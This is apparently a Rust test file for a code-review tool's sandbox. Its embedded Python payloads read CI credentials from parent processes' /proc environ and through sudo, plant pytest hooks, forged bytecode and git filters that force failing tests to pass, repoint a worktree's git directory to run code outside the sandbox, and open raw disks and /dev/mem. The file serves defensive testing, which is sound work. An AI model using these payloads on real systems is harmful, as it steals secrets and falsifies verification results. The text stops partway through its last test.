//! The change's code runs in a sandbox (issue 34): each test here is an attack a head commit can
//! make on the machine that checks it, asserting the safe outcome: a verdict the attack cannot
//! move, and no credential read or shown. The attacks that depend on it run as an unprivileged
//! user with passwordless `sudo`, as a GitHub-hosted runner's ([`hostile::Runner`]).

use std::path::Path;

use crate::common;
use common::hostile::{self, Runner, PY_ANCESTORS};
use common::{ident, Repo, Run};

const SERVICE_BASE: &str = "def refund(order):\n    return order\n";
const SERVICE_HEAD: &str =
    "def refund(order):\n    order['status'] = 'refunded'\n    return order\n";

/// A base commit with a service and one plain test; returns (repo, base sha).
fn base_repo() -> (Repo, String) {
    let r = Repo::new();
    r.write("pytest.ini", "[pytest]\ntestpaths = tests\n");
    r.write("svc/__init__.py", "");
    r.write("svc/refund.py", SERVICE_BASE);
    r.write(
        "tests/test_plain.py",
        "def test_plain():\n    assert 1 + 1 == 2\n",
    );
    let base = r.commit("base");
    (r, base)
}

fn acceptance(r: &Repo, body: &str) {
    r.write(
        ".shipmoor/acceptance.yaml",
        &format!("version: 1\ncriteria:\n{body}"),
    );
}

const REFUNDED: &str = "order-refunded";
const REFUNDED_AC: &str = "  - id: order-refunded\n    ac: Order is marked refunded.\n";

/// The honest change: the fix and a tagged test that fails at base and passes at head, with
/// `hostile` (Python, run first in the test) inside it.
fn refund_change(r: &Repo, hostile: &str) -> String {
    r.write("svc/refund.py", SERVICE_HEAD);
    let mut body = String::new();
    for line in hostile.lines() {
        body.push_str("    ");
        body.push_str(line);
        body.push('\n');
    }
    r.write(
        &format!("tests/test_refund_{}.py", ident(REFUNDED)),
        &format!(
            "import os, subprocess, sys\nfrom svc.refund import refund\n{PY_ANCESTORS}\n\
             def test_marks_{}():\n{body}    assert refund({{}})['status'] == 'refunded'\n",
            ident(REFUNDED)
        ),
    );
    acceptance(r, REFUNDED_AC);
    r.commit("head")
}

// ----------------------------------------------------------------------------------------------
// The user itself
// ----------------------------------------------------------------------------------------------

/// The setup the attacks below rest on works: an honest change run as the unprivileged user,
/// by a parent that holds the job's credentials, reads READY.
#[test]
fn an_honest_change_run_as_an_unprivileged_user_is_ready() {
    let (r, base) = base_repo();
    refund_change(&r, "pass");
    let runner = Runner::new();
    let run = runner.shipmoor(&r, &[], &["claim-check", "--base", &base], &[]);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
    assert!(r.extra_worktrees().is_empty());
    assert!(r.tmp_leftovers().is_empty(), "{:?}", r.tmp_leftovers());
}

// ----------------------------------------------------------------------------------------------
// Credentials
// ----------------------------------------------------------------------------------------------

/// Python: walks the ancestors and reads each one's environment, keeping the credentials'
/// variables it finds; prints them and carries them to `$HOSTILE_DROP` and into the worktree.
const READ_ANCESTORS: &str = r#"found = {}
for pid, comm in ancestors():
    try:
        env = open('/proc/%d/environ' % pid, 'rb').read().split(b'\0')
    except OSError as e:
        print('ancestor', pid, comm, 'refused:', e)
        continue
    for v in env:
        k, _, val = v.decode(errors='replace').partition('=')
        if k.startswith(('ACTIONS_', 'AWS_', 'ANTHROPIC_')):
            found[k] = val
print('LEAKED', found)
for path in (os.environ['HOSTILE_DROP'] + '/leak-%d' % os.getpid(), 'leak.txt'):
    try:
        with open(path, 'w') as f:
            f.write(repr(found))
    except OSError as e:
        print('cannot write', path, e)
"#;

/// A tagged test walks `PPid` and reads every ancestor's `/proc/<pid>/environ`: shipmoor's own
/// is refused (it is not dumpable), but its parent shell holds the job's credentials. None may
/// be read, carried out or shown; the honest change is READY all the same.
#[test]
fn credentials_of_the_parents_are_out_of_the_tests_reach() {
    let (r, base) = base_repo();
    refund_change(&r, READ_ANCESTORS);
    let runner = Runner::new();
    let drop = runner.drop_dir();
    let run = runner.shipmoor(
        &r,
        &[],
        &["claim-check", "--base", &base],
        &[("HOSTILE_DROP", &drop.display().to_string())],
    );
    let places = hostile::everything_shown(&r, &run, &[&drop, r.tmp.path()]);
    hostile::assert_no_secret(&places, &run);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
    // The test did run, at both sides, and looked.
    assert!(
        hostile::evidence_text(&r).contains("LEAKED"),
        "the hostile test did not run: {run:?}"
    );
}

/// Python: `sudo` reads the environment of the nearest ancestor named `shipmoor`, and the test
/// prints its own `NoNewPrivs`.
const SUDO_READS_SHIPMOOR: &str = r#"print([l for l in open('/proc/self/status').read().splitlines() if l.startswith('NoNewPrivs:')][0])
found = {}
for pid, comm in ancestors():
    if comm != 'shipmoor':
        continue
    try:
        out = subprocess.run(['sudo', '-n', 'cat', '/proc/%d/environ' % pid], capture_output=True, timeout=20)
        print('sudo exit', out.returncode, out.stderr.decode(errors='replace'))
        for v in out.stdout.split(b'\0'):
            k, _, val = v.decode(errors='replace').partition('=')
            if k.startswith(('ACTIONS_', 'AWS_', 'ANTHROPIC_')):
                found[k] = val
    except Exception as e:
        print('sudo refused:', e)
    break
print('LEAKED', found)
try:
    with open(os.environ['HOSTILE_DROP'] + '/sudo-%d' % os.getpid(), 'w') as f:
        f.write(repr(found))
except OSError as e:
    print('cannot write the drop', e)
"#;

/// With the runner's passwordless `sudo`, a tagged test reads shipmoor's own environment as
/// root. Inside the sandbox `no_new_privs` is set, so `sudo` is refused: no credential is read
/// or shown, the evidence shows `NoNewPrivs: 1`, and the honest change is READY.
#[test]
fn sudo_from_a_test_is_refused() {
    let (r, base) = base_repo();
    refund_change(&r, SUDO_READS_SHIPMOOR);
    let runner = Runner::new();
    let drop = runner.drop_dir();
    let run = runner.shipmoor(
        &r,
        &[],
        &["claim-check", "--base", &base],
        &[("HOSTILE_DROP", &drop.display().to_string())],
    );
    let places = hostile::everything_shown(&r, &run, &[&drop, r.tmp.path()]);
    hostile::assert_no_secret(&places, &run);
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
    let evidence = hostile::evidence_text(&r);
    assert!(
        evidence.contains("NoNewPrivs:\t1"),
        "the test ran without no_new_privs: {}\n{run:?}",
        hostile::excerpt(&evidence, "NoNewPrivs:\t")
    );
}

/// Python: prints the signing secrets' values as the first ancestor that holds them has them.
const PRINTS_THE_SIGNING_SECRETS: &str = r#"for pid, comm in ancestors():
    try:
        env = open('/proc/%d/environ' % pid, 'rb').read().split(b'\0')
    except OSError:
        continue
    got = [v.decode() for v in env if v.startswith((b'ACTIONS_ID_TOKEN_REQUEST_TOKEN=', b'ACTIONS_ID_TOKEN_REQUEST_URL=', b'ACTIONS_RUNTIME_TOKEN='))]
    if got:
        print('LEAKED from', comm, got)
        break
"#;

/// A value that leaks anyway is masked from the full withheld list, the Actions runtime's
/// signing secrets included: with the sandbox off the test still reads them from shipmoor's
/// parent and prints them, and neither the evidence nor any report holds them; the evidence
/// holds the mask instead.
#[test]
fn the_signing_secrets_a_test_prints_are_masked() {
    let (r, base) = base_repo();
    refund_change(&r, PRINTS_THE_SIGNING_SECRETS);
    let runner = Runner::new();
    let run = runner.shipmoor(
        &r,
        &[],
        &["claim-check", "--base", &base, "--sandbox", "off"],
        &[],
    );
    let places = hostile::everything_shown(&r, &run, &[r.tmp.path()]);
    hostile::assert_no_secret(&places, &run);
    assert_eq!(run.code, 0, "{run:?}");
    let evidence = hostile::evidence_text(&r);
    assert!(
        evidence.contains("[withheld ACTIONS_ID_TOKEN_REQUEST_TOKEN]"),
        "the leak was not captured and masked: {}\n{run:?}",
        hostile::excerpt(&evidence, "LEAKED")
    );
}

// ----------------------------------------------------------------------------------------------
// What one invocation writes, and what reads it later
// ----------------------------------------------------------------------------------------------

/// A hookwrapper that makes every report passed.
const PASSING_HOOK: &str = "import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    outcome.get_result().outcome = 'passed'\n";

/// A calculator project whose `adds` criterion (its tagged test) is at base; `settings` is
/// `.shipmoor/config.yaml` when given. Returns (repo, base sha).
fn calc_repo(calc: &str, settings: Option<&str>) -> (Repo, String) {
    let r = Repo::new();
    r.write("pytest.ini", "[pytest]\ntestpaths = tests\n");
    r.write("calc.py", calc);
    r.write(
        "tests/test_plain.py",
        "def test_plain():\n    assert 1 + 1 == 2\n",
    );
    if let Some(s) = settings {
        r.write(".shipmoor/config.yaml", s);
    }
    let base = r.commit("base");
    (r, base)
}

/// A `multiplies` criterion in the change's own file, with its tagged test: fails at base
/// (no `mul`), passes at head; `hostile` (Python, indented for the test's body) runs first.
fn multiplies(r: &Repo, hostile: &str) {
    r.write(
        ".shipmoor/changes/mul.yaml",
        "version: 1\ncriteria:\n  - id: multiplies\n    ac: Numbers multiply.\n",
    );
    r.write(
        &format!("tests/test_mul_{}.py", ident("multiplies")),
        &format!(
            "import os\nimport calc\n\nHOOK = {PASSING_HOOK:?}\n\ndef test_mul_{}():\n{hostile}    assert calc.mul(2, 3) == 6\n",
            ident("multiplies")
        ),
    );
}

/// A change that regresses an inherited criterion that `inherited: guard` makes a pass-to-pass
/// guard, and whose new tagged test runs `hostile` (Python, for the test's body, `HOOK` at hand)
/// when it runs at head, before the guard's later invocation there. Returns the run and its
/// result JSON.
fn blinding_the_guard(r: &Repo, hostile: &str) -> (Run, serde_json::Value) {
    r.write(
        &format!("tests/test_add_{}.py", ident("adds")),
        &format!(
            "import calc\n\ndef test_add_{}():\n    assert calc.add(2, 2) == 4\n",
            ident("adds")
        ),
    );
    r.write(
        ".shipmoor/acceptance.yaml",
        "version: 1\ncriteria:\n  - id: adds\n    ac: Numbers add.\n",
    );
    let base = r.commit("adds, inherited from here on");
    // The regression, and the new criterion's test that blinds the guard at head.
    r.write(
        "calc.py",
        "def add(a, b):\n    return a - b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(r, hostile);
    r.commit("head");
    let run = r.shipmoor(&["claim-check", "--base", &base, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("no result JSON ({e}): {run:?}"));
    let verdict = v["result"]["verdict"].as_str().unwrap_or_default();
    assert!(
        matches!(run.code, 1 | 4) && verdict != "READY" && !verdict.is_empty(),
        "the regression reads {verdict}: {:#}\n{run:?}",
        v["result"]["criteria"]
    );
    (run, v)
}

/// The tagged test writes an untracked `tests/conftest.py` whose hook marks every report
/// passed. A harness file written at run time taints what runs after it: never READY, and the
/// reports name the file.
#[test]
fn a_conftest_written_at_run_time_does_not_blind_the_guard() {
    common::require_pytest();
    let (r, _) = calc_repo(
        "def add(a, b):\n    return a + b\n",
        Some("version: 1\ninherited: guard\n"),
    );
    let (run, _) = blinding_the_guard(
        &r,
        "    if hasattr(calc, 'mul'):\n        with open(os.path.join(os.path.dirname(__file__), 'conftest.py'), 'w') as f:\n            f.write(HOOK)\n",
    );
    let md = r.read(".shipmoor/verify.md");
    assert!(
        md.contains("tests/conftest.py"),
        "verify.md does not name tests/conftest.py:\n{md}"
    );
    assert!(
        run.stdout.contains("tests/conftest.py"),
        "the result JSON does not name tests/conftest.py: {run:?}"
    );
}

/// The tagged test writes an untracked `tests/calc.py`, the unbroken module, which pytest puts
/// first on the guard's later path: a module written at run time taints what runs after it.
#[test]
fn a_module_written_at_run_time_does_not_stand_in_for_the_changes_own() {
    common::require_pytest();
    let (r, _) = calc_repo(
        "def add(a, b):\n    return a + b\n",
        Some("version: 1\ninherited: guard\n"),
    );
    let (run, _) = blinding_the_guard(
        &r,
        "    if hasattr(calc, 'mul'):\n        with open(os.path.join(os.path.dirname(__file__), 'calc.py'), 'w') as f:\n            f.write('def add(a, b):\\n    return a + b\\n\\ndef mul(a, b):\\n    return a * b\\n')\n",
    );
    assert!(
        run.stdout.contains("tests/calc.py (Python module)"),
        "{run:?}"
    );
}

/// The tagged test writes compiled Python for the change's `calc.py` beside it
/// (`__pycache__/calc.<tag>.pyc`, the unbroken module, its header giving the source's size and
/// modification time, so Python loads it in the source's place): the guard's later invocation
/// at head would import it and pass. Compiled Python a command writes is removed before the next
/// command runs, while Python's own library keeps its installed bytecode: the regression is
/// never READY.
#[test]
fn compiled_python_written_at_run_time_does_not_stand_in_for_the_changes_own() {
    common::require_pytest();
    let (r, _) = calc_repo(
        "def add(a, b):\n    return a + b\n",
        Some("version: 1\ninherited: guard\n"),
    );
    blinding_the_guard(
        &r,
        "    if hasattr(calc, 'mul'):\n        import sys, importlib._bootstrap_external as be\n        st = os.stat(calc.__file__)\n        code = compile('def add(a, b):\\n    return a + b\\n\\ndef mul(a, b):\\n    return a * b\\n', calc.__file__, 'exec')\n        d = os.path.join(os.path.dirname(calc.__file__), '__pycache__')\n        os.makedirs(d, exist_ok=True)\n        with open(os.path.join(d, 'calc.' + sys.implementation.cache_tag + '.pyc'), 'wb') as f:\n            f.write(bytes(be._code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size)))\n",
    );
}

/// The tagged test puts a `usercustomize.py` that loads a pytest plugin marking every report
/// passed where the watch does not look (`~/.cache`, where pip and npm keep their caches) and
/// makes `~/.local` a link to it: every later Python at that side would import it. A link
/// written at run time taints what runs after it.
#[test]
fn a_link_in_the_home_to_a_directory_unwatched_does_not_blind_the_guard() {
    common::require_pytest();
    let (r, _) = calc_repo(
        "def add(a, b):\n    return a + b\n",
        Some("version: 1\ninherited: guard\n"),
    );
    let (run, _) = blinding_the_guard(
        &r,
        "    if hasattr(calc, 'mul'):\n        import sys\n        target = os.path.join(os.path.expanduser('~'), '.cache', 'u')\n        lib = os.path.join(target, 'lib', 'python%d.%d' % sys.version_info[:2], 'site-packages')\n        os.makedirs(lib, exist_ok=True)\n        open(os.path.join(lib, 'shipmoor_blind.py'), 'w').write(HOOK)\n        open(os.path.join(lib, 'usercustomize.py'), 'w').write(\"import os\\nos.environ['PYTEST_PLUGINS'] = 'shipmoor_blind'\\n\")\n        local = os.path.join(os.path.expanduser('~'), '.local')\n        import shutil\n        shutil.rmtree(local, ignore_errors=True)\n        os.symlink(target, local)\n",
    );
    assert!(run.stdout.contains("~/.local (symbolic link)"), "{run:?}");
}

/// A tagged test running at base rewrites head's worktree (a sibling of its own): head's
/// `check.command` runs after base and would pass on code the change never had. A side's
/// worktree is not writable while the other side runs: the command criterion is not satisfied,
/// and the unfixed change is not READY.
#[test]
fn a_test_at_base_cannot_rewrite_heads_worktree() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a - b\n", None);
    // Head does not fix add.
    r.write(
        "calc.py",
        "def add(a, b):\n    return a - b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(
        &r,
        "    if not hasattr(calc, 'mul'):\n        head = os.path.join(os.path.dirname(os.getcwd()), 'head', 'calc.py')\n        try:\n            with open(head, 'w') as f:\n                f.write('def add(a, b):\\n    return a + b\\n\\ndef mul(a, b):\\n    return a * b\\n')\n            print('rewrote', head)\n        except OSError as e:\n            print('cannot rewrite', head, e)\n",
    );
    r.write(
        ".shipmoor/acceptance.yaml",
        "version: 1\ncriteria:\n  - id: adds\n    ac: Numbers add.\n    check:\n      command: \"python3 -c 'import calc; assert calc.add(2, 2) == 4'\"\n",
    );
    r.commit("head");
    let run = r.shipmoor(&["claim-check", "--base", &base, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("no result JSON ({e}): {run:?}"));
    let adds = v["result"]["criteria"]
        .as_array()
        .expect("criteria")
        .iter()
        .find(|c| c["id"] == "adds")
        .unwrap_or_else(|| panic!("no criterion adds: {run:?}"))
        .clone();
    assert_ne!(
        adds["floor"]["result"], "satisfied",
        "the unfixed add() passed head's check.command: {adds:#}\n{run:?}"
    );
    assert_ne!(v["result"]["verdict"], "READY", "{run:?}");
    assert_ne!(run.code, 0, "{run:?}");
}

// ----------------------------------------------------------------------------------------------
// One run poisons the next
// ----------------------------------------------------------------------------------------------

/// A change whose tagged test really fails at head (no fix): BLOCKED. Returns (repo, base).
fn unfixed_refund() -> (Repo, String) {
    let (r, base) = base_repo();
    r.write(
        &format!("tests/test_refund_{}.py", ident(REFUNDED)),
        &format!(
            "from svc.refund import refund\n\ndef test_marks_{}():\n    assert refund({{}})['status'] == 'refunded'\n",
            ident(REFUNDED)
        ),
    );
    acceptance(&r, REFUNDED_AC);
    r.commit("head: no fix");
    (r, base)
}

/// Python: the user's site-packages get a pytest plugin that marks every report passed in a
/// worktree named `head` (shipmoor's), loaded by a `usercustomize.py` (every Python the user
/// starts) and by a `.pth` file.
const POISONS_THE_USER_SITE: &str = r#"import site
d = site.getusersitepackages()
try:
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, 'shipmoor_poison.py'), 'w') as f:
        f.write("import os, pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n    outcome = yield\n    if os.path.basename(os.getcwd()) == 'head':\n        outcome.get_result().outcome = 'passed'\n")
    with open(os.path.join(d, 'usercustomize.py'), 'w') as f:
        f.write("import os\nos.environ['PYTEST_PLUGINS'] = 'shipmoor_poison'\n")
    with open(os.path.join(d, 'zz-shipmoor-poison.pth'), 'w') as f:
        f.write("import os; os.environ['PYTEST_PLUGINS'] = 'shipmoor_poison'\n")
    print('poisoned', d)
except OSError as e:
    print('cannot poison', d, e)
"#;

/// Change A's tagged test writes a pytest plugin into the user's site-packages; change B, in
/// another repository and run afterwards by the same user, has a tagged test that really fails
/// at head. Nothing written under `~` outlives A's run: B is BLOCKED after A as it is alone.
#[test]
fn what_a_run_writes_in_the_users_site_packages_does_not_judge_the_next() {
    let runner = Runner::new();
    let (b, b_base) = unfixed_refund();
    let alone = runner.shipmoor(&b, &[], &["claim-check", "--base", &b_base], &[]);
    assert_eq!(alone.code, 1, "change B alone should be BLOCKED: {alone:?}");

    let (a, a_base) = base_repo();
    refund_change(&a, POISONS_THE_USER_SITE);
    let first = runner.shipmoor(&a, &[], &["claim-check", "--base", &a_base], &[]);
    assert!(
        first.stderr.contains("head tests/test_refund_"),
        "change A's test did not run: {first:?}"
    );

    let after = runner.shipmoor(&b, &[], &["claim-check", "--base", &b_base], &[]);
    let left: Vec<String> = runner
        .files_in(&runner.home())
        .into_iter()
        .map(|(p, _)| p.display().to_string())
        .collect();
    assert_eq!(
        after.code, 1,
        "change B reads otherwise after change A (left in HOME: {left:?}): {after:?}"
    );
    assert!(
        after.stdout.starts_with("Claim Check  BLOCKED"),
        "{after:?}"
    );
    assert!(
        !left
            .iter()
            .any(|p| p.contains("poison") || p.ends_with("usercustomize.py")),
        "change A's run left {left:?} in the user's HOME"
    );
}

/// Python: plants a smudge/clean filter pair in the repository's shared git config (the
/// worktree's common dir) and `info/attributes`, so that every later checkout of `calc.py`
/// turns `a - b` into `a + b` (and `git status` sees nothing).
const PLANTS_A_FILTER: &str = r#"here = os.path.dirname(os.path.abspath(__file__))
try:
    common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'], cwd=here, capture_output=True, text=True).stdout.strip()
    config = os.path.join(common, 'config')
    if 'filter "x"' not in open(config).read():
        with open(config, 'a') as f:
            f.write('[filter "x"]\n\tsmudge = sed \'s/return a - b/return a + b/\'\n\tclean = sed \'s/return a + b/return a - b/\'\n')
    os.makedirs(os.path.join(common, 'info'), exist_ok=True)
    with open(os.path.join(common, 'info', 'attributes'), 'a') as f:
        f.write('calc.py filter=x\n')
    print('planted a filter in', common)
except OSError as e:
    print('cannot plant a filter:', e)
"#;

/// Change A's tagged test plants a smudge filter in the repository's shared `.git/config` and
/// `.git/info/attributes`; change B, a later change in the same repository, adds an `add` that
/// really fails its tagged test at head (BLOCKED before A's run). After A's run the
/// repository's git state is as it was, and B is still BLOCKED.
#[test]
fn a_filter_planted_in_the_shared_git_config_does_not_judge_the_next_change() {
    let runner = Runner::new();
    let (r, base) = calc_repo("def sub(a, b):\n    return a - b\n", None);
    let config = r.path().join(".git/config");
    let attributes = r.path().join(".git/info/attributes");
    let read = |p: &Path| std::fs::read(p).ok();
    // Change A: `mul`, whose test plants the filter.
    r.write(
        "calc.py",
        "def sub(a, b):\n    return a - b\n\ndef mul(a, b):\n    return a * b\n",
    );
    let planting: String = PLANTS_A_FILTER
        .lines()
        .map(|l| format!("    {l}\n"))
        .collect();
    multiplies(&r, &format!("    import subprocess\n{planting}"));
    let a = r.commit("change A");
    // Change B, on top of A: an add that subtracts, and its tagged test.
    r.write(
        "calc.py",
        "def sub(a, b):\n    return a - b\n\ndef mul(a, b):\n    return a * b\n\ndef add(a, b):\n    return a - b\n",
    );
    r.write(
        ".shipmoor/changes/add.yaml",
        "version: 1\ncriteria:\n  - id: adds\n    ac: Numbers add.\n",
    );
    r.write(
        &format!("tests/test_add_{}.py", ident("adds")),
        &format!(
            "import calc\n\ndef test_add_{}():\n    assert calc.add(2, 2) == 4\n",
            ident("adds")
        ),
    );
    r.commit("change B");
    let alone = runner.shipmoor(&r, &[], &["claim-check", "--base", &a], &[]);
    assert_eq!(alone.code, 1, "change B alone should be BLOCKED: {alone:?}");

    let (config_before, attributes_before) = (read(&config), read(&attributes));
    let first = runner.shipmoor(
        &r,
        &[],
        &["claim-check", "--base", &base, "--head", &a],
        &[],
    );
    assert!(
        first.stderr.contains("head tests/test_mul_"),
        "change A's test did not run: {first:?}"
    );
    let (config_after, attributes_after) = (read(&config), read(&attributes));

    let after = runner.shipmoor(&r, &[], &["claim-check", "--base", &a], &[]);
    let planted = config_after != config_before || attributes_after != attributes_before;
    assert_eq!(
        after.code, 1,
        "change B reads otherwise after change A (A's run planted a filter: {planted}): {after:?}"
    );
    assert_eq!(
        config_after.map(|b| String::from_utf8_lossy(&b).into_owned()),
        config_before.map(|b| String::from_utf8_lossy(&b).into_owned()),
        ".git/config changed in change A's run"
    );
    assert_eq!(
        attributes_after, attributes_before,
        ".git/info/attributes changed in change A's run"
    );
}

// ----------------------------------------------------------------------------------------------
// Out of the sandbox's way
// ----------------------------------------------------------------------------------------------

/// Python: at head, points the worktree's `.git` file at a git directory of the test's own
/// whose config defines a clean filter, marks `calc.py` for it and leaves it stat-dirty, so that
/// a later `git status` in the worktree would run the filter, outside the sandbox. The filter
/// writes `escaped` into the repository's own git directory, which no sandboxed process can.
const SWAPS_THE_GITDIR: &str = r#"    if hasattr(calc, 'mul'):
        import subprocess
        wt = os.getcwd()
        real = open('.git').read().split('gitdir: ')[1].strip()
        common = os.path.dirname(os.path.dirname(real))
        env = dict(os.environ, GIT_DIR=wt + '/.evilgit', GIT_WORK_TREE=wt)
        g = lambda *a: subprocess.run(['git', *a], env=env, check=True, capture_output=True)
        g('init', '-q')
        g('config', 'filter.x.clean', 'echo escaped > %s/escaped; cat' % common)
        g('config', 'core.worktree', wt)
        g('add', 'calc.py')
        g('-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '-qm', 'x')
        open('.gitattributes', 'w').write('calc.py filter=x\n')
        os.utime('calc.py', (1, 1))
        os.remove('.git')
        open('.git', 'w').write('gitdir: %s/.evilgit\n' % wt)
"#;

/// The tagged test repoints its worktree's `.git` file at a git directory of its own with a
/// clean filter: Claim Check's own git commands in that worktree (the check for rewritten
/// files) name the worktree's real git directory themselves, so the filter never runs outside
/// the sandbox, and the verdict is the change's.
#[test]
fn a_worktree_gitdir_repointed_by_a_test_runs_nothing_outside_the_sandbox() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a + b\n", None);
    r.write(
        "calc.py",
        "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(&r, SWAPS_THE_GITDIR);
    r.commit("head");
    let run = r.shipmoor(&["claim-check", "--base", &base, "--format", "json"]);
    let escaped = r.path().join(".git/escaped");
    assert!(
        !escaped.exists(),
        "the filter ran outside the sandbox and wrote {}\n{run:?}",
        escaped.display()
    );
    let v: serde_json::Value = serde_json::from_str(&run.stdout)
        .unwrap_or_else(|e| panic!("no result JSON ({e}): {run:?}"));
    assert!(matches!(run.code, 0 | 4), "{run:?}");
    assert_ne!(v["result"]["verdict"], "BLOCKED", "{run:?}");
}

/// Python: at head, forks a chain of `DEPTH` processes, each the parent of the next, in a
/// session of its own, each recording `pid start-time` in the shared directory and sleeping.
const FORKS_A_DEEP_CHAIN: &str = r#"    if hasattr(calc, 'mul'):
        import time
        pids = os.path.join(os.environ['SHARED'], 'chain')
        def record():
            start = open('/proc/self/stat').read().rsplit(')', 1)[1].split()[19]
            with open(pids, 'a') as f:
                f.write('%d %s\n' % (os.getpid(), start))
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.setsid()
            for _ in range(DEPTH):
                if os.fork() != 0:
                    break
            record()
            while True:
                time.sleep(60)
        time.sleep(2)
"#;

/// A tagged test leaves behind a chain of processes far deeper than one reaping round per
/// generation would reach, each in a session of its own: when the run is over none of them is
/// left, and the honest change is READY.
#[test]
fn a_chain_of_processes_left_behind_does_not_outlive_the_run() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a + b\n", None);
    r.write(
        "calc.py",
        "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(&r, &FORKS_A_DEEP_CHAIN.replace("DEPTH", "300"));
    r.commit("head");
    let shared = r.shared.path().display().to_string();
    let run = r.shipmoor_env(&["claim-check", "--base", &base], &[("SHARED", &shared)]);
    let recorded = std::fs::read_to_string(r.shared.path().join("chain")).unwrap_or_default();
    let alive: Vec<&str> = recorded
        .lines()
        .filter(|l| {
            let mut it = l.split_whitespace();
            let (Some(pid), Some(start)) = (it.next(), it.next()) else {
                return false;
            };
            std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
                let rest: Vec<&str> = stat
                    .rsplit_once(')')
                    .map(|(_, r)| r.split_whitespace().collect())
                    .unwrap_or_default();
                rest.first() != Some(&"Z") && rest.get(19) == Some(&start)
            })
        })
        .collect();
    // Whatever the outcome, nothing of the chain may be left for the next test.
    for l in &alive {
        if let Some(pid) = l
            .split_whitespace()
            .next()
            .and_then(|p| p.parse::<i32>().ok())
        {
            unsafe { libc::kill(pid, libc::SIGKILL) };
        }
    }
    assert!(
        recorded.lines().count() > 100,
        "the chain was not made: {} recorded\n{run:?}",
        recorded.lines().count()
    );
    assert!(
        alive.is_empty(),
        "{} of the chain's {} processes outlived the run\n{run:?}",
        alive.len(),
        recorded.lines().count()
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
}

/// Python: at head, opens every block device the kernel lists and a few character devices
/// that hold the machine's memory and log, recording in the shared directory each one opened.
const OPENS_THE_DISKS: &str = r#"    if hasattr(calc, 'mul'):
        names = ['/dev/' + n for n in os.listdir('/sys/class/block')]
        names += ['/dev/mem', '/dev/kmem', '/dev/port', '/dev/kmsg', '/dev/loop-control']
        opened = []
        for n in names:
            try:
                os.close(os.open(n, os.O_RDONLY))
                opened.append(n)
            except OSError as e:
                print('refused', n, e)
        with open(os.path.join(os.environ['SHARED'], 'opened'), 'w') as f:
            f.write('\n'.join(opened))
"#;

/// A tagged test opens the machine's block devices (where a job runs as root, the disk that
/// holds every hidden file, read raw around the filesystem rules): no device but those every
/// program uses is in the sandbox, for root as for anyone, and the honest change is READY.
#[test]
fn the_machines_disks_are_out_of_a_tests_reach() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a + b\n", None);
    r.write(
        "calc.py",
        "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(&r, OPENS_THE_DISKS);
    r.commit("head");
    let shared = r.shared.path().display().to_string();
    let run = r.shipmoor_env(&["claim-check", "--base", &base], &[("SHARED", &shared)]);
    let opened = std::fs::read_to_string(r.shared.path().join("opened"))
        .unwrap_or_else(|e| panic!("the test recorded nothing ({e}): {run:?}"));
    assert!(
        opened.trim().is_empty(),
        "a test opened the machine's devices: {opened}\n{run:?}"
    );
    assert_eq!(run.code, 0, "{run:?}");
    assert!(
        run.stdout.starts_with("Claim Check  READY  ·  exit 0"),
        "{run:?}"
    );
}

/// Credentials named outside the common words, or whose value gives them away.
const UNUSUAL_CREDENTIALS: [(&str, &str); 6] = [
    (
        "DATABASE_URL",
        "postgres://app:db-pass-41c9e2@db.internal/app",
    ),
    ("CI_JOB_JWT_V2", "eyJhbGciOiJSUzI1NiJ9.jwt-body-9d3f"),
    ("MYSQL_PWD", "mysql-pwd-77ab1e"),
    (
        "SENTRY_DSN",
        "https://dsn-key-5e0c@sentry.example.invalid/3",
    ),
    ("DEPLOY_PAT", "deploy-pat-0f8e2d"),
    ("SSH_AUTH_SOCK", "/tmp/ssh-agent-sock-3c7d/agent.1"),
];

/// A tagged test prints its whole environment: credentials named as a database URL, a CI job's
/// JWT, a password in `_PWD`, a DSN, a personal access token and the agent's socket are
/// withheld from it (their names listed, never a value), and the honest change is READY.
#[test]
fn credentials_named_unusually_are_withheld_from_a_test() {
    common::require_pytest();
    let (r, base) = calc_repo("def add(a, b):\n    return a + b\n", None);
    r.write(
        "calc.py",
        "def add(a, b):\n    return a + b\n\ndef mul(a, b):\n    return a * b\n",
    );
    multiplies(&r, "    print('ENVIRONMENT', sorted(os.environ.items()))\n");
    r.commit("head");
    let run = r.shipmoor_env(
        &["claim-check", "--base", &base, "--format", "json"],
        &UNUSUAL_CREDENTIALS,
    );
    assert_eq!(run.code, 0, "{run:?}");
    let evidence = hostile::evidence_text(&r);
    assert!(
        evidence.contains("ENVIRONMENT"),
        "the test's output is not in the evidence: {run:?}"
    );
    let places = hostile::everything_shown(&r, &run, &[r.tmp.path()]);
